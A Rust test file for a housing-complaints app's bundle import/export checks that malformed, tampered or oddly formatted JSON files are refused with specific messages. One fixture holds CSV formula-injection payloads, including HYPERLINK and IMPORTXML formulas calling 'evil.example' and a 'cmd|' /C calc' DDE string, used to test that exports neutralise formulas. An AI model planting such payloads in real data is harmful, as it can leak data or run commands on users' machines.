//! Bundle validation, driven by the fixture files the browser end-to-end tests also upload.
//!
//! Every bad fixture is paired with the class of error it must give and a fragment of its message.
//! The fixtures are generated from the definitions below (`BLESS=1 cargo test -p redress-core --test bundle`
//! rewrites them), and a test fails if a committed file differs, so checksums in them are real.

use std::path::PathBuf;

use redress_core::bundle::{
    self, plan, preview, BundleError, BundleErrorKind, ConflictChoice, Damaged, Scope, FORMAT_VERSION,
    MAX_BYTES,
};
use redress_core::record::{RawRecord, Record, RecordKind};
use serde_json::{json, Value};

fn fixtures_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/bundles")
}

const EXPORTED_AT: &str = "2026-11-23T09:30:00Z";

fn saved(kind: RecordKind, id: &str, data: Value) -> Record {
    Record { kind, id: id.into(), revision: 1, updated_at: EXPORTED_AT.into(), data }
}

/// A realistic case, as the case module stores it.
fn sample_case() -> Value {
    let cases = redress_core::case::sample_cases(1, 7);
    serde_json::to_value(&cases[0]).unwrap()
}

fn valid_one_case() -> bundle::Bundle {
    let case = sample_case();
    let id = case["id"].as_str().unwrap().to_string();
    bundle::export(
        vec![saved(RecordKind::Case, &id, case)],
        Scope::OneCase { case_id: id.clone() },
        EXPORTED_AT,
    )
}

/// Every fixture file and how to make it.
fn fixtures() -> Vec<(&'static str, String)> {
    let valid = valid_one_case();
    let valid_text = valid.to_json_pretty();

    let mut newer: Value = serde_json::to_value(&valid).unwrap();
    newer["format_version"] = json!(FORMAT_VERSION + 1);

    // One character of the resident's words changed after export.
    let damaged = valid_text.replacen("\"description\": \"", "\"description\": \"X", 1);
    assert_ne!(damaged, valid_text, "the sample case must have a description to alter");

    // The same case, changed on another device: a valid file whose record differs from this one's.
    let mut changed_case = sample_case();
    changed_case["description"] = json!("The mould came back in the back bedroom after it was painted over.");
    let changed_id = changed_case["id"].as_str().unwrap().to_string();
    let differing = bundle::export(
        vec![saved(RecordKind::Case, &changed_id, changed_case)],
        Scope::OneCase { case_id: changed_id.clone() },
        EXPORTED_AT,
    );

    let mut bad_record_case = sample_case();
    bad_record_case["events"][0]["date"] = json!("31/12/2026");
    let id = bad_record_case["id"].as_str().unwrap().to_string();
    let invalid = bundle::export(
        vec![saved(RecordKind::Case, &id, bad_record_case)],
        Scope::OneCase { case_id: id.clone() },
        EXPORTED_AT,
    );

    // Files the reliability probe of December 2026 found accepted, or refused with the wrong words.
    let deep_setting = {
        let data = format!("{}{}", "[".repeat(300), "]".repeat(300));
        let records = format!(
            r#"[{{"data":{data},"id":"deep","kind":"setting","revision":1,"updated_at":"{EXPORTED_AT}"}}]"#
        );
        let checksum: String =
            bundle::sha256(records.as_bytes()).iter().map(|b| format!("{b:02x}")).collect();
        format!(
            r#"{{"format":"redress-bundle","format_version":1,"exported_at":"{EXPORTED_AT}","app_version":"0.1.0","scope":{{"kind":"everything"}},"records":{records},"checksum":"{checksum}"}}"#
        ) + "\n"
    };
    let repeated_key =
        valid_text.replacen("\"landlord\": ", "\"landlord\": \"<b>x</b>\",\n        \"landlord\": ", 1);
    assert_ne!(repeated_key, valid_text);
    let rechecked = |alter: &dyn Fn(&mut Value)| {
        let mut value = serde_json::to_value(&valid).unwrap();
        alter(&mut value);
        let canonical = serde_json::to_string(&value["records"]).unwrap();
        value["checksum"] = json!(bundle::sha256(canonical.as_bytes())
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect::<String>());
        serde_json::to_string_pretty(&value).unwrap() + "\n"
    };
    let id_differs = rechecked(&|b| b["records"][0]["id"] = json!("case-other"));
    let id_differs = id_differs.replacen("\"case_id\": \"case-7-00000\"", "\"case_id\": \"case-other\"", 1);
    let out_of_order = rechecked(&|b| {
        let date = b["records"][0]["data"]["events"][0]["date"].as_str().unwrap().to_string();
        b["records"][0]["data"]["events"][1]["date"] = json!(format!("{}-01", &date[..7]));
    });
    let scope_mismatch = rechecked(&|b| b["scope"] = json!({"kind": "one_case", "case_id": "case-other"}));
    let exported_yesterday = rechecked(&|b| b["exported_at"] = json!("yesterday"));
    let uppercase_checksum = valid_text.replacen(&valid.checksum, &valid.checksum.to_uppercase(), 1);

    // A register whose every text column starts like a spreadsheet formula: the association's
    // setup, an edited policy whose stage names are formulas, and a case whose id, resident,
    // category and handler are. Valid: the CSV export must make each cell text.
    let formula_register = {
        let mut policy = redress_core::policy::code().clone();
        policy.id = "formula-policy".into();
        policy.version = "1".into();
        policy.title = "=HYPERLINK(\"http://evil.example\",\"policy\")".into();
        for stage in &mut policy.stages {
            stage.name = format!("=IMPORTXML(\"http://evil.example\",\"//{}\")", stage.id);
        }
        let mut case: Value = sample_case();
        let id = "=HYPERLINK(\"http://evil.example\",\"case\")";
        case["id"] = json!(id);
        case["policy_id"] = json!("formula-policy");
        case["policy_version"] = json!("1");
        case["landlord"] = json!("+SUM(1,1)");
        case["resident"]["name"] = json!("+1+cmd|' /C calc'!A0");
        case["category"] = json!("-2+3");
        case["handler"] = json!("@SUM(1,2)");
        let setup = json!({
            "organisation": "Formula Homes",
            "policy_id": "formula-policy",
            "policy_version": "1",
            "division": "england-and-wales",
            "handlers": ["@SUM(1,2)"],
        });
        bundle::export(
            vec![
                saved(RecordKind::Case, id, case),
                saved(RecordKind::Policy, "formula-policy@1", serde_json::to_value(&policy).unwrap()),
                saved(RecordKind::Setting, "association", setup),
            ],
            Scope::Everything,
            EXPORTED_AT,
        )
        .to_json_pretty()
            + "\n"
    };

    vec![
        ("valid-one-case.json", valid_text.clone() + "\n"),
        ("formula-register.json", formula_register),
        ("deep-setting.json", deep_setting),
        ("repeated-key.json", repeated_key + "\n"),
        ("id-differs.json", id_differs),
        ("events-out-of-order.json", out_of_order),
        ("scope-mismatch.json", scope_mismatch),
        ("exported-at-not-a-time.json", exported_yesterday),
        ("uppercase-checksum.json", uppercase_checksum + "\n"),
        ("differing-one-case.json", differing.to_json_pretty() + "\n"),
        ("not-json.json", "{\n  \"format\": \"redress-bundle\",\n  \"records\": [\n".to_string()),
        (
            "not-a-bundle.json",
            serde_json::to_string_pretty(&json!({"name": "My tenancy agreement", "pages": 12})).unwrap()
                + "\n",
        ),
        ("newer-version.json", serde_json::to_string_pretty(&newer).unwrap() + "\n"),
        ("checksum-mismatch.json", damaged + "\n"),
        ("invalid-record.json", invalid.to_json_pretty() + "\n"),
    ]
}

#[test]
fn fixture_files_are_up_to_date() {
    let bless = std::env::var_os("BLESS").is_some();
    std::fs::create_dir_all(fixtures_dir()).unwrap();
    for (name, content) in fixtures() {
        let path = fixtures_dir().join(name);
        if bless {
            std::fs::write(&path, &content).unwrap();
            continue;
        }
        let committed = std::fs::read_to_string(&path).unwrap_or_else(|_| {
            panic!("{} is missing: run `BLESS=1 cargo test -p redress-core --test bundle`", path.display())
        });
        assert_eq!(
            committed, content,
            "{name} is out of date: run `BLESS=1 cargo test -p redress-core --test bundle`"
        );
    }
}

/// Parses a fixture file and checks the class of error and a fragment of its message.
fn check(name: &str, expected: Result<usize, (BundleErrorKind, &str)>) {
    let bytes = std::fs::read(fixtures_dir().join(name)).unwrap();
    match (bundle::parse(&bytes), expected) {
        (Ok(bundle), Ok(records)) => assert_eq!(bundle.records.len(), records, "{name}"),
        (Err(error), Err((kind, fragment))) => {
            let message = error.to_string();
            assert_eq!(error.kind(), kind, "{name}: {message}");
            assert!(message.contains(fragment), "{name}: {message:?} should contain {fragment:?}");
            assert!(message.contains("Nothing has been changed."), "{name}: {message}");
        }
        (got, want) => panic!("{name}: got {got:?}, expected {want:?}"),
    }
}

#[test]
fn each_fixture_gives_its_own_result() {
    check("valid-one-case.json", Ok(1));
    check("differing-one-case.json", Ok(1));
    check("not-json.json", Err((BundleErrorKind::NotJson, "not valid JSON")));
    check("not-a-bundle.json", Err((BundleErrorKind::NotABundle, "not a Redress bundle")));
    check("newer-version.json", Err((BundleErrorKind::NewerVersion, "newer version of Redress")));
    check("checksum-mismatch.json", Err((BundleErrorKind::ChecksumMismatch, "changed or damaged")));
    check("invalid-record.json", Err((BundleErrorKind::InvalidRecord, "Record 1 in this file (a case")));
    check("formula-register.json", Ok(3));
    check("deep-setting.json", Err((BundleErrorKind::TooDeep, "more than 100 levels deep")));
    check(
        "repeated-key.json",
        Err((BundleErrorKind::DuplicateKey, "\"records[0].data.landlord\" is written twice")),
    );
    check(
        "id-differs.json",
        Err((
            BundleErrorKind::IdMismatch,
            "kept under the id \"case-other\", but the case inside it has the id",
        )),
    );
    check("events-out-of-order.json", Err((BundleErrorKind::InvalidRecord, "events must be in date order")));
    check(
        "scope-mismatch.json",
        Err((BundleErrorKind::ScopeMismatch, "says it holds one case, \"case-other\"")),
    );
    check("exported-at-not-a-time.json", Err((BundleErrorKind::Malformed, "\"exported_at\" is wrong")));
    check("uppercase-checksum.json", Err((BundleErrorKind::BadChecksum, "64 lower-case letters and digits")));
}

#[test]
fn an_invalid_record_names_the_field_and_why() {
    let bytes = std::fs::read(fixtures_dir().join("invalid-record.json")).unwrap();
    match bundle::parse(&bytes).unwrap_err() {
        BundleError::InvalidRecord { index, kind, field, reason, .. } => {
            assert_eq!(index, 0);
            assert_eq!(kind, Some(RecordKind::Case));
            assert_eq!(field, "data.events[0].date");
            assert!(
                reason.contains("input contains invalid characters") || reason.contains("premature"),
                "{reason}"
            );
        }
        other => panic!("expected an invalid record, got {other:?}"),
    }
}

/// Bad envelopes built inline: each gives its own message.
#[test]
fn bad_envelopes_are_named() {
    let good = serde_json::to_value(valid_one_case()).unwrap();
    type Alter = Box<dyn Fn(&mut Value)>;
    let cases: Vec<(Alter, BundleErrorKind, &str)> = vec![
        (
            Box::new(|b| b["format"] = json!("something-else")),
            BundleErrorKind::NotABundle,
            "format \"something-else\"",
        ),
        (Box::new(|b| *b = json!([1, 2])), BundleErrorKind::NotABundle, "a list"),
        (Box::new(|b| b["format_version"] = json!("one")), BundleErrorKind::Malformed, "format_version"),
        (Box::new(|b| b["format_version"] = json!(0)), BundleErrorKind::Malformed, "version 0"),
        (Box::new(|b| b["records"] = json!({})), BundleErrorKind::Malformed, "\"records\""),
        (
            Box::new(|b| b["records"][0]["revision"] = json!(0)),
            BundleErrorKind::InvalidRecord,
            "\"revision\"",
        ),
        (
            Box::new(|b| b["records"][0]["id"] = json!("  ")),
            BundleErrorKind::InvalidRecord,
            "\"id\" is wrong (it is empty)",
        ),
        (
            Box::new(|b| b["records"][0]["id"] = json!("x".repeat(201))),
            BundleErrorKind::InvalidRecord,
            "200 characters",
        ),
        (
            Box::new(|b| b["records"][0]["kind"] = json!("spaceship")),
            BundleErrorKind::InvalidRecord,
            "\"kind\"",
        ),
        (
            Box::new(|b| b["records"][0]["updated_at"] = json!("yesterday")),
            BundleErrorKind::InvalidRecord,
            "updated_at",
        ),
        (Box::new(|b| b["records"][0]["data"] = json!("text")), BundleErrorKind::InvalidRecord, "\"data\""),
        (
            Box::new(|b| {
                b["records"][0].as_object_mut().unwrap().remove("data");
            }),
            BundleErrorKind::InvalidRecord,
            "missing field `data`",
        ),
        (
            Box::new(|b| b["records"][0]["colour"] = json!("blue")),
            BundleErrorKind::InvalidRecord,
            "unknown field `colour`",
        ),
        (Box::new(|b| b["scope"] = json!({"kind": "all"})), BundleErrorKind::Malformed, "scope"),
        (
            Box::new(|b| {
                let first = b["records"][0].clone();
                b["records"].as_array_mut().unwrap().push(first);
            }),
            BundleErrorKind::ChecksumMismatch,
            "checksum",
        ),
    ];
    for (alter, kind, fragment) in cases {
        let mut bundle = good.clone();
        alter(&mut bundle);
        let error = bundle::parse(serde_json::to_string(&bundle).unwrap().as_bytes()).unwrap_err();
        assert_eq!(error.kind(), kind, "{error}");
        assert!(error.to_string().contains(fragment), "{error} should contain {fragment:?}");
    }
}

#[test]
fn duplicate_records_are_refused_even_with_a_matching_checksum() {
    let record = saved(RecordKind::Setting, "preferences", json!({"division": "scotland"}));
    let bundle = bundle::export(vec![record.clone(), record], Scope::Everything, EXPORTED_AT);
    let error = bundle::parse(bundle.to_json_pretty().as_bytes()).unwrap_err();
    assert_eq!(error.kind(), BundleErrorKind::InvalidRecord);
    assert!(error.to_string().contains("same kind has this id"), "{error}");
}

#[test]
fn an_oversized_file_is_refused_before_parsing() {
    let bytes = vec![b' '; MAX_BYTES as usize + 1];
    let error = bundle::parse(&bytes).unwrap_err();
    assert_eq!(error.kind(), BundleErrorKind::TooLarge);
    assert!(error.to_string().contains("limit is 64 MB"), "{error}");
    assert!(error.to_string().contains("too large"), "{error}");
}

#[test]
fn not_json_says_where() {
    match bundle::parse(b"{\"format\": \"redress-bundle\",\n oops}").unwrap_err() {
        BundleError::NotJson { line, .. } => assert_eq!(line, 2),
        other => panic!("{other:?}"),
    }
    assert_eq!(bundle::parse(&[0xff, 0xfe, 0x00]).unwrap_err().kind(), BundleErrorKind::NotJson);
}

#[test]
fn export_then_parse_round_trips() {
    let records = vec![
        saved(RecordKind::Setting, "preferences", json!({"division": "northern-ireland"})),
        saved(
            RecordKind::Draft,
            "draft-1",
            json!({"step": "what", "words": "Mould in the “back” bedroom — £40"}),
        ),
        saved(RecordKind::Case, sample_case()["id"].as_str().unwrap(), sample_case()),
    ];
    let exported = bundle::export(records.clone(), Scope::Everything, EXPORTED_AT);
    let parsed = bundle::parse(exported.to_json_pretty().as_bytes()).unwrap();
    assert_eq!(parsed, exported);
    let mut sorted = records;
    sorted.sort_by(|a, b| a.key().cmp(&b.key()));
    assert_eq!(parsed.records, sorted);
    assert_eq!(parsed.app_version, redress_core::APP_VERSION);
}

#[test]
fn the_checksum_survives_reindenting_but_not_a_changed_value() {
    let exported = valid_one_case();
    let compact = serde_json::to_string(&exported).unwrap();
    assert!(bundle::parse(compact.as_bytes()).is_ok());
    let mut reordered: Value = serde_json::from_str(&compact).unwrap();
    reordered["records"][0]["revision"] = json!(2);
    let error = bundle::parse(serde_json::to_string(&reordered).unwrap().as_bytes()).unwrap_err();
    assert_eq!(error.kind(), BundleErrorKind::ChecksumMismatch);
    // The checksum itself is lowercase hex SHA-256.
    assert_eq!(exported.checksum.len(), 64);
    assert!(exported.checksum.chars().all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase()));
}

#[test]
fn file_name_is_dated() {
    let date = chrono::NaiveDate::from_ymd_opt(2026, 3, 7).unwrap();
    assert_eq!(bundle::file_name(date), "redress-2026-03-07.json");
}

fn mixed() -> (Vec<RawRecord>, Vec<RawRecord>) {
    let existing = [
        Record { revision: 3, ..saved(RecordKind::Case, "same", json!({"a": 1})) },
        Record { revision: 5, ..saved(RecordKind::Case, "changed", json!({"a": 1})) },
        saved(RecordKind::Setting, "preferences", json!({"division": "scotland"})),
    ];
    let incoming = [
        saved(RecordKind::Case, "same", json!({"a": 1})),
        saved(RecordKind::Case, "changed", json!({"a": 2})),
        saved(RecordKind::Case, "new", json!({"b": 1})),
        // Same id as a setting, but a different kind: new.
        saved(RecordKind::Draft, "preferences", json!({})),
    ];
    let raw = |records: &[Record]| records.iter().map(RawRecord::from_record).collect();
    (raw(&existing), raw(&incoming))
}

#[test]
fn preview_counts_new_identical_and_differing() {
    let (existing, incoming) = mixed();
    let p = preview(&incoming, &existing, &[]);
    assert_eq!((p.total, p.new, p.identical), (4, 2, 1));
    assert_eq!(p.differing, vec![(RecordKind::Case, "changed".to_string())]);
}

#[test]
fn plan_follows_the_choice_and_never_rewrites_identical_records() {
    let (existing, incoming) = mixed();
    let keys = |plan: &bundle::ImportPlan| -> Vec<(String, u64)> {
        plan.records.iter().map(|r| (r.id.clone(), r.revision)).collect()
    };

    let mine = plan(incoming.clone(), &existing, &[], ConflictChoice::KeepMine);
    assert_eq!(keys(&mine), vec![("new".into(), 0), ("preferences".into(), 0)]);

    let theirs = plan(incoming.clone(), &existing, &[], ConflictChoice::TakeTheirs);
    assert_eq!(keys(&theirs), vec![("changed".into(), 5), ("new".into(), 0), ("preferences".into(), 0)]);
    assert_eq!(theirs.records[0].to_record().data, json!({"a": 2}));

    let both = plan(incoming, &existing, &[], ConflictChoice::KeepBoth);
    assert_eq!(both.records.len(), 3);
    let copy = &both.records[0];
    assert!(
        copy.id.starts_with("changed-imported-") && copy.id.len() == "changed-imported-".len() + 8,
        "{}",
        copy.id
    );
    assert_eq!((copy.revision, copy.to_record().data), (0, json!({"a": 2})));
    assert_eq!(both.renamed.len(), 1);
    assert_eq!(both.renamed[0].from, "changed");
    assert_eq!(both.renamed[0].to, copy.id);
}

/// A stored record that cannot be read (the store sets it aside by kind, id and revision) differs
/// from any record in a file with its kind and id: the user chooses, and taking the file's
/// version replaces it, naming its stored revision.
#[test]
fn a_damaged_stored_record_can_be_replaced_by_the_files_version() {
    let (existing, incoming) = mixed();
    let damaged = [Damaged { kind: RecordKind::Case, id: "new".into(), revision: 4 }];
    let p = preview(&incoming, &existing, &damaged);
    assert_eq!((p.total, p.new, p.identical), (4, 1, 1));
    assert_eq!(
        p.differing,
        vec![(RecordKind::Case, "changed".to_string()), (RecordKind::Case, "new".to_string())]
    );
    assert_eq!(p.damaged, vec![(RecordKind::Case, "new".to_string())]);
    let revisions = |plan: &bundle::ImportPlan| -> Vec<(String, u64)> {
        plan.records.iter().map(|r| (r.id.clone(), r.revision)).collect()
    };
    let mine = plan(incoming.clone(), &existing, &damaged, ConflictChoice::KeepMine);
    assert_eq!(revisions(&mine), vec![("preferences".into(), 0)]);
    let theirs = plan(incoming.clone(), &existing, &damaged, ConflictChoice::TakeTheirs);
    assert_eq!(revisions(&theirs), vec![("changed".into(), 5), ("new".into(), 4), ("preferences".into(), 0)]);
    let both = plan(incoming, &existing, &damaged, ConflictChoice::KeepBoth);
    assert!(both.renamed.iter().any(|r| r.from == "new" && r.to.starts_with("new-imported-")), "{both:?}");
}

#[test]
fn the_browser_can_supply_the_digest() {
    use sha2::{Digest, Sha256};
    let text = valid_one_case().to_json_pretty();
    let unverified = bundle::parse_unverified(text.as_bytes()).unwrap();
    let digest: [u8; 32] = Sha256::digest(unverified.canonical_records()).into();
    assert_eq!(unverified.verify(&digest).unwrap().into_bundle(), bundle::parse(text.as_bytes()).unwrap());

    let unverified = bundle::parse_unverified(text.as_bytes()).unwrap();
    let error = unverified.verify(&[0; 32]).unwrap_err();
    assert_eq!(error.kind(), BundleErrorKind::ChecksumMismatch);
}

#[test]
fn a_file_the_one_pass_read_refuses_is_read_again_step_by_step() {
    // Keys in another order, and a record's data written by hand: valid, but not what the one-pass
    // read expects, so the file is read again step by step, to the same bundle.
    let text = valid_one_case().to_json_pretty();
    let value: Value = serde_json::from_str(&text).unwrap();
    let reordered = format!(
        "{{\"records\": {}, \"scope\": {}, \"checksum\": {}, \"format\": \"redress-bundle\", \"format_version\": 1, \"app_version\": \"0.1.0\", \"exported_at\": \"2026-11-23T09:30:00Z\", \"records_note\": 1}}",
        value["records"], value["scope"], value["checksum"]
    );
    let error = bundle::parse(reordered.as_bytes()).unwrap_err();
    assert!(error.to_string().contains("unknown field `records_note`"), "{error}");
    let reordered = reordered.replace(", \"records_note\": 1", "");
    assert_eq!(bundle::parse(reordered.as_bytes()).unwrap(), bundle::parse(text.as_bytes()).unwrap());

    // A repeated key is valid JSON (serde_json keeps the last one) but the format refuses it, naming it.
    let repeated = text.replacen("\"exported_at\":", "\"exported_at\": \"earlier\",\n  \"exported_at\":", 1);
    assert_ne!(repeated, text);
    assert!(serde_json::from_str::<bundle::Bundle>(&repeated).is_err());
    match bundle::parse(repeated.as_bytes()).unwrap_err() {
        BundleError::DuplicateKey { path } => assert_eq!(path, "exported_at"),
        other => panic!("expected a repeated key, got {other:?}"),
    }
}

/// A file written by hand or by another tool: keys out of order, escapes Redress would not write,
/// fractions. Its data is not copied as it is but read into a JSON value, and its checksum (over
/// the canonical form) still matches.
#[test]
fn data_not_in_canonical_form_is_read_the_slow_sure_way() {
    let data =
        json!({"words": "Damp — “again”, café", "amount": 12.5, "zeta": [1, -2, {"b": null, "a": true}]});
    let exported =
        bundle::export(vec![saved(RecordKind::Draft, "d1", data.clone())], Scope::Everything, EXPORTED_AT);
    let text = exported.to_json_pretty();
    let canonical_data = serde_json::to_string(&data).unwrap();
    let by_hand = r#"{ "zeta": [1, -2, {"a": true, "b": null}], "words": "Damp \u2014 \u201cagain\u201d, caf\u00e9", "amount": 1.25e1 }"#;
    let hand_written =
        text.replacen(&serde_json::to_string_pretty(&data).unwrap().replace('\n', "\n      "), by_hand, 1);
    assert_ne!(hand_written, text, "the test must replace the record's data");
    assert_eq!(bundle::canonical_json(by_hand), None);

    let incoming = bundle::parse_unverified(hand_written.as_bytes()).unwrap();
    let digest = bundle::sha256(incoming.canonical_records());
    let incoming = incoming.verify(&digest).unwrap();
    assert_eq!(incoming.records[0].data_json(), canonical_data);
    assert_eq!(incoming.into_bundle(), exported);
}

#[test]
fn a_raw_record_is_stored_in_the_shape_a_record_is_read_from() {
    let record = saved(RecordKind::Case, "c\"1", sample_case());
    let raw = RawRecord::from_record(&record);
    let stored: Record = serde_json::from_str(&raw.to_json()).unwrap();
    assert_eq!(stored, record);
    assert_eq!(raw.to_record(), record);
    assert_eq!(raw.to_json(), serde_json::to_string(&record).unwrap());
}

/// A file's settings are checked like its cases (issue 14): each id must name a setting Redress
/// keeps, and the data must be that setting and pass its check, or the file is refused with a
/// message naming the record and what is wrong, whichever way the file is read.
#[test]
fn a_files_settings_are_checked_like_its_cases() {
    let good = vec![
        saved(RecordKind::Setting, "preferences", json!({"division": "scotland"})),
        saved(
            RecordKind::Setting,
            "association",
            json!({"organisation": "Riverside Homes", "policy_id": "code-2024", "policy_version": "2024", "division": "england-and-wales", "handlers": ["Amira Khan"]}),
        ),
    ];
    let bundle = bundle::export(good.clone(), Scope::Everything, EXPORTED_AT);
    assert!(bundle::parse(bundle.to_json_pretty().as_bytes()).is_ok());

    for (record, fragments) in [
        (
            saved(RecordKind::Setting, "theme", json!({"dark": true})),
            vec!["id \"theme\"", "Redress keeps no setting called \"theme\""],
        ),
        (
            saved(RecordKind::Setting, "preferences", json!({"division": "atlantis"})),
            vec!["id \"preferences\"", "data.division", "atlantis"],
        ),
        (
            saved(
                RecordKind::Setting,
                "association",
                json!({"organisation": "Riverside Homes", "policy_id": "code-2024", "handlers": []}),
            ),
            vec!["id \"association\"", "without its version"],
        ),
        (
            saved(RecordKind::Setting, "self-assessment", json!({"answers": [{"provision_id": "no-such"}]})),
            vec!["id \"self-assessment\"", "no-such", "no such provision"],
        ),
    ] {
        let mut records = good.clone();
        records.push(record);
        let bundle = bundle::export(records, Scope::Everything, EXPORTED_AT);
        // Pretty (as Redress writes a file) and compact: the quick and the slow way of reading.
        for text in [bundle.to_json_pretty(), serde_json::to_string(&bundle).unwrap()] {
            let error = bundle::parse(text.as_bytes()).unwrap_err();
            assert_eq!(error.kind(), BundleErrorKind::InvalidRecord, "{error}");
            for fragment in &fragments {
                assert!(error.to_string().contains(fragment), "{error} should contain {fragment:?}");
            }
        }
    }
}
